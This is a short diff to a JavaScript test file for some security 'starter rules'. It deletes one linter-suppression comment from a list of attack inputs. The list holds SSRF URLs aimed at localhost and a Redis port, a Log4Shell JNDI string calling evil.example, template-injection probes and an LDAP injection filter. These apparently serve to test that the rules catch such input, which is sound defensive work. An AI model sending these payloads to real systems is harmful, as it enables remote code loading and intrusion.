@@ -64,7 +64,6 @@ describe('the starter rules', () => {
     'http://127.0.0.1:22/',
     'http://[::1]/',
     'gopher://127.0.0.1:6379/_INFO',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack has this form
     '${jndi:ldap://evil.example/a}',
     '{{7*7}}{{config}}',
     '*)(uid=*))(|(uid=*',
